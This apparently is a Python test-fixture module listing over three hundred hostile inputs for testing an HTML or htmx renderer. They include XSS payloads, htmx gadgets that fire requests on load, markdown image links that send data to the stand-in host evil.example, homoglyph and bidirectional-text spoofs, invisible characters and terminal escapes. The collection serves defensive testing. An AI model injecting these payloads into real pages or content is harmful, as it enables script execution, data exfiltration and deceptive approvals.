"""Texts that try to do something: run a script, send a request, hide, reorder, pretend."""

SCRIPTS = [
    "<script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg onload=window.owned=1>",
    "<svg/onload=window.owned=1//",
    '"><script src=//evil.example/x.js></script>',
    "'><img src=//evil.example/pixel.png>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>parent.owned=1</script>'></iframe>",
    "<object data=//evil.example/x></object>",
    "<embed src=//evil.example/x>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Approve</button></form>",
    "<a href=javascript:window.owned=1>click</a>",
    "<details open ontoggle=window.owned=1>",
    "<body onload=window.owned=1>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.owned=1>",
    "{{ 7|add:7 }}{% debug %}",
    "</textarea><script>window.owned=1</script>",
    "</title><script>window.owned=1</script>",
    "--><script>window.owned=1</script>",
    "]]><script>window.owned=1</script>",
    "<video><source onerror=window.owned=1></video>",
    "<audio src=//evil.example/a.mp3 autoplay>",
    "<input autofocus onfocus=window.owned=1>",
    "<marquee onstart=window.owned=1>",
    "<template><script>window.owned=1</script></template>",
    "![pixel](https://evil.example/pixel.png?data=secret)",
    "[approve](https://evil.example/approve)",
    "<picture><source srcset=//evil.example/a.png><img></picture>",
    "<div style=background:url(//evil.example/b.png)>x</div>",
    "javascript:window.owned=1",
    "https://xn--pypal-4ve.example/approve",
]
GADGETS = [
    '<div hx-get="/evil-gadget/" hx-trigger="load">x</div>',
    '<div hx-post="/evil-gadget/" hx-trigger="load">x</div>',
    '<div data-hx-get="/evil-gadget/" data-hx-trigger="load">x</div>',
    '<div hx-delete="/evil-gadget/" hx-trigger="revealed">x</div>',
    '<div hx-put="/evil-gadget/" hx-trigger="every 1s">x</div>',
    '<div hx-patch="/evil-gadget/" hx-trigger="intersect">x</div>',
    '<div hx-get="//evil.example/" hx-trigger="load">x</div>',
    "<div hx-on:load='window.owned=1' hx-on::after-request='window.owned=1'>x</div>",
    '<div hx-on="htmx:load: window.owned=1">x</div>',
    '<div hx-vals="js:{a: window.owned=1}" hx-get="/evil-gadget/" hx-trigger="load">x</div>',
    '<div hx-ext="morph" hx-get="/evil-gadget/" hx-trigger="load">x</div>',
    '<form hx-post="/evil-gadget/" hx-trigger="load"><input name=vote value=approve></form>',
    '<a hx-boost="true" href="/evil-gadget/">x</a>',
    '<div sse-connect="/evil-gadget/">x</div>',
    '<div ws-connect="/evil-gadget/">x</div>',
    '<button hx-post="/evil-gadget/" hx-trigger="load delay:10ms">Approve</button>',
    '<div hx-get="/evil-gadget/" hx-trigger="load[window.owned=1]">x</div>',
    '<div hx-swap-oob="true" id="decide">x</div>',
    '<div hx-swap-oob="outerHTML:#actions" id="actions">x</div>',
    '<p id="status-line" hx-get="/evil-gadget/" hx-trigger="load">x</p>',
]
HIDING = [
    "pay\u202eLIVE\u202c",
    "a\u200bb",
    "\U000e0041\U000e0042\U000e0043",
    "\x1b[31mred\x1b[0m",
    "раураl",
    "a" + "\n" * 300 + "IBAN DE00",
]
EVERYTHING = [*SCRIPTS, *GADGETS, *HIDING]

_EVENTS = ("onload", "onerror", "onfocus", "onmouseover", "onanimationstart", "onpointerenter", "ontoggle", "onbegin")
_ELEMENTS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "iframe",
    "x contenteditable",
)
_BREAKS = ("", '">', "'>", "</p>", "</textarea>", "</script>", "</template>", "<!--", "]]>", "</title>", "\\x3e")
_ADDRESSES = ("/evil-gadget/", "//evil.example/x", "https://evil.example/x", "/inbox/?vote=approve&evil")
_HX = ("hx-get", "hx-post", "hx-put", "hx-patch", "hx-delete", "data-hx-get", "data-hx-post", "hx-boost", "hx-preload")
_TRIGGERS = ("load", "revealed", "intersect once", "every 1s", "mouseenter", "look from:body", "keydown from:body")
# Every character that shows nothing or turns the text around, and must leave a mark where it stands.
INVISIBLE = (
    *map(chr, (0x00AD, 0x034F, 0x061C, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180E, 0x3164, 0xFEFF, 0xFFA0)),
    *map(chr, range(0x200B, 0x2010)),
    *map(chr, range(0x202A, 0x202F)),
    *map(chr, range(0x2060, 0x2065)),
    *map(chr, range(0x2066, 0x2070)),
    *map(chr, (0xFE00, 0xFE01, 0xFE0D, 0xFE0E, 0xE0100, 0xE01EF)),
    *map(chr, (0xE0001, 0xE0020, 0xE0041, 0xE007F)),
    *map(chr, (0x01, 0x07, 0x08, 0x0B, 0x1B, 0x7F, 0x9B)),
)


def _handlers() -> list[str]:
    return [
        f"{out}<{element} {event}=window.owned=1>"
        for number, element in enumerate(_ELEMENTS)
        for at, event in enumerate(_EVENTS)
        for out in (_BREAKS[(number * 3 + at) % len(_BREAKS)], _BREAKS[(number + at * 5 + 1) % len(_BREAKS)])
    ]


def _gadgets() -> list[str]:
    return [
        f'<div {verb}="{_ADDRESSES[(number + at) % len(_ADDRESSES)]}" hx-trigger="{trigger}" hx-target="#decide">x</div>'
        for number, verb in enumerate(_HX)
        for at, trigger in enumerate(_TRIGGERS)
    ]


def _links() -> list[str]:
    schemes = (
        "javascript:window.owned=1",
        "data:text/html,<script>window.owned=1</script>",
        "vbscript:x",
        "//evil.example",
    )
    forms = (
        "[a]({})",
        "![a]({})",
        "<{}>",
        "<a href='{}'>a</a>",
        "<a ping='{}' href=x>a</a>",
        "<use href='{}'>",
        "@import url({});",
    )
    return [form.format(scheme) for form in forms for scheme in schemes]


def _pretending() -> list[str]:
    """Homoglyphs, terminal escapes, and text that never ends."""
    twins = (
        "\u0430pprove",
        "\u0420ayPal",
        "refund\u0585",
        "\u03bfrder",
        "\uff21pprove",
        "I\u0417AN",
        "\u2044etc",
        "a\u0338pprove",
    )
    escapes = ("\x1b[2J", "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07", "\x1b[8mhidden\x1b[0m", "\r\x1b[Kapproved")
    return [*twins, *escapes, "W" * 2_000, "a " * 2_000, "\u0301" * 300 + "a"]


def hidden(character: str) -> str:
    return f"pay{character}me"


# More than three hundred, each another text.
ALL_OF_THEM = list(
    dict.fromkeys([*EVERYTHING, *_handlers(), *_gadgets(), *_links(), *_pretending(), *map(hidden, INVISIBLE)])
)
MEGABYTE = "<img src=//evil.example/x onerror=window.owned=1>" * 21_000
